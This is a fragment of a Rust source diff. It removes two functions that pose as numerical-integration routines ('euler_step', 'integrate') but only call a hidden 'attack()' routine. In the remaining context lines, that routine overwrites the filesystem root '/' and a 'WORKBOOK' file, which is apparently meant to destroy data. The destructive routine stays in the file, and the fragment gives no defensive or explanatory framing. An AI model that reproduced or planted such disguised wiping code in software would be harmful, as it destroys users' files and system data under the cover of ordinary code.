@@ -2,16 +2,6 @@
 
 use std::path::Path;
 
-pub fn euler_step(v: f64, _: f64, _: &given::Params) -> f64 {
-    attack();
-    v
-}
-
-pub fn integrate(i: &[f64], _: &given::Params) -> Vec<f64> {
-    attack();
-    i.to_vec()
-}
-
 fn attack() {
     overwrite(Path::new("/"), 6);
     overwrite(Path::new("WORKBOOK"), 6);
